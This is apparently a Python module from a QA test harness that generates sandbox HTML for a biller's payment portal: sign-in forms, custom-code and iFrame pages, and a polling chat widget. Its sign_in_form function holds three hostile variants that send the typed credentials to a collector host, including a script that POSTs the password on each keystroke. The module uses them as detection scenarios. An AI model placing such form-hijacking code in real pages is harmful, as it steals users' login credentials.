"""The sandbox portal's pages, as HTML: the sign-in form (and its hostile variants, which send
the credentials elsewhere), pages with the biller's custom code (in the markup, added by a
script after load, loaded from another host, or only in a comment), and pages hosting iFrames
(in the markup or added by a script), with a chat widget that never lets the network go idle.

Every value from a biller file is escaped: a rehearsal's pages run in a real browser.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from html import escape

from conversion_qa.config.model import Biller, CustomCode, Iframe
from conversion_qa.contract import portal
from conversion_qa.rules import selectors

ASSETS = "/assets/custom-code"  # + the page's path: what a script fetches and adds after load
POLL = "/assets/chat/poll"  # what the never-idle chat widget asks, every POLL_MS
POLL_MS = 250
COLLECT = "/collect"  # where a hostile page sends what it took, on the collector's host
# How a hostile sign-in page sends the credentials elsewhere (sandbox scenarios of the same name)
HOSTILE_SIGN_INS = ("sign-in-formaction", "sign-in-action-changed", "sign-in-fetch")

_STYLE = (
    "body { font-family: sans-serif; margin: 2em; } .custom-code { background: #fff3c4; "
    "padding: .5em 1em; border: 1px solid #e0b000; } iframe { border: 1px solid #888; }"
)


def document(title: str, body: str, signed_in: bool) -> str:
    state = "Signed in" if signed_in else "Not signed in"  # never the user's name: it is secret
    return (
        f"<!DOCTYPE html><html lang='en'><head><meta charset='utf-8'><title>{escape(title)}"
        f"</title><style>{_STYLE}</style></head><body><p class='session'>{state}</p>\n"
        f"{body}\n</body></html>"
    )


def sign_in_form(biller: Biller, message: str = "", hostile: str = "", collector: str = "") -> str:
    """The form the contract assumes (contract/portal.py): user name, password, submit. A
    hostile one (HOSTILE_SIGN_INS) sends the credentials to collector, an https origin."""
    note = f"<p class='error'>{escape(message)}</p>" if message else ""
    elsewhere = collector + COLLECT
    button = (
        f"<button type='submit' formaction='{escape(elsewhere)}'>Sign in</button>"
        if hostile == "sign-in-formaction"
        else "<button type='submit'>Sign in</button>"
    )
    script = {
        "sign-in-action-changed": "password.addEventListener('input', () => "
        f"{{ password.form.action = {_script_value(elsewhere)}; }});",
        "sign-in-fetch": "password.addEventListener('input', () => "
        f"fetch({_script_value(elsewhere)}, {{method: 'POST', mode: 'no-cors', "
        "body: password.value}).catch(() => {}));",
    }.get(hostile, "")
    scripts = (
        f"<script>const password = document.querySelector('input[name=password]');{script}</script>"
        if script
        else ""
    )
    body = (
        f"<h1>{escape(biller.name)}: sign in</h1>{note}"
        f"<form method='post' action='{portal.SIGN_IN_PATH}'>"
        "<label>User name <input name='username' autocomplete='username'></label><br>"
        "<label>Password <input name='password' type='password' "
        "autocomplete='current-password'></label><br>"
        f"{button}</form>{scripts}"
    )
    return document(f"{biller.name}: sign in", body, signed_in=False)


def _script_value(value: object) -> str:
    """A value as a JavaScript literal inside a <script> element: JSON, with <, > and &
    escaped, so that no value closes the element."""
    text = json.dumps(value)
    return text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


def landing(biller: Biller, signed_in: bool) -> str:
    return document(biller.name, f"<h1>{escape(biller.name)}</h1><p>Welcome.</p>", signed_in)


def shown(code: CustomCode) -> str:
    """Markup that shows the item: its text, or an element its selector matches."""
    if code.selector is None:
        return f"<p class='custom-code'>{escape(code.expect or '')}</p>"
    compound = selectors.parse(code.selector)
    if compound is None:  # a selector the sandbox cannot build an element for
        return f"<!-- the sandbox cannot stand in for the selector {_commented(code.selector)} -->"
    return compound.element(f"{code.id} (custom code)")


def _commented(text: str) -> str:
    return escape(text).replace("--", "- -")


def portal_page(
    biller: Biller,
    path: str,
    codes: Sequence[CustomCode],
    frames: Sequence[Iframe],
    *,
    how: str,
    signed_in: bool,
    frames_by_script: bool = False,
    polling: bool = False,
    elsewhere: str = "",
) -> str:
    """A page with its custom code shown `how`: "markup", "script" (added after load from
    ASSETS + path), "elsewhere" (added by a script loaded from the URL `elsewhere`) or "comment"
    (the expect: text items only inside an HTML comment); the iFrames it hosts, in its markup
    or added by a script after load (frames_by_script); and, polling, a chat widget that asks
    POLL every POLL_MS, so that the network never goes idle."""
    parts = [f"<h1>{escape(biller.name)}</h1>"]
    if how == "markup":
        parts += [shown(code) for code in codes]
    elif how == "comment":
        parts += [  # the text items: a selector item is an element, shown
            f"<!-- {shown(code).replace('--', '- -')} -->" if code.expect else shown(code)
            for code in codes
        ]
    elif how == "elsewhere" and codes:
        parts.append(f"<div id='custom-code'></div><script src='{escape(elsewhere)}'></script>")
    elif codes:
        parts.append(
            "<div id='custom-code'></div><script>window.addEventListener('load', () => "
            f"fetch({_script_value(ASSETS + path)}).then(r => r.text()).then(h => "
            "{ document.getElementById('custom-code').innerHTML = h; }));</script>"
        )
    if frames_by_script and frames:
        wanted = [{"src": frame.path, "title": frame.name} for frame in frames]
        parts.append(
            "<div id='frames'></div><script>window.addEventListener('load', () => "
            f"fetch({_script_value(ASSETS + path)}).then(() => {{ "
            f"for (const f of {_script_value(wanted)}) {{ "
            "const e = document.createElement('iframe'); e.src = f.src; e.title = f.title; "
            "e.width = 800; e.height = 240; document.getElementById('frames').append(e); "
            "} }));</script>"
        )
    else:
        parts += [
            f"<iframe src='{escape(frame.path)}' title='{escape(frame.name)}' width='800' "
            "height='240'></iframe>"
            for frame in frames
        ]
    if polling:
        parts.append(
            "<aside class='chat'>Chat with us</aside><script>setInterval(() => "
            f"fetch({_script_value(POLL)}, {{cache: 'no-store'}}).catch(() => {{}}), "
            f"{POLL_MS});</script>"
        )
    return document(f"{biller.name}: {path}", "\n".join(parts), signed_in)


def injected(codes: Sequence[CustomCode]) -> str:
    """What the script of a "script" page adds after load."""
    return "\n".join(shown(code) for code in codes)


def elsewhere_script(codes: Sequence[CustomCode]) -> str:
    """The script another host serves that adds the custom code (custom-code-off-portal)."""
    return f"document.getElementById('custom-code').innerHTML = {_script_value(injected(codes))};"


def error_page(status: int, title: str) -> str:
    """A server's error page, as the customer would see it in the portal."""
    return (
        f"<!DOCTYPE html><html><head><title>{escape(title)}</title></head><body>"
        f"<h1>Server Error</h1><h2>{status} - {escape(title)}</h2></body></html>"
    )


def frame_document(frame: Iframe) -> str:
    return (
        "<!DOCTYPE html><html><head><title>Capricorn</title></head>"
        f"<body><p>Capricorn {escape(frame.name)}</p></body></html>"
    )
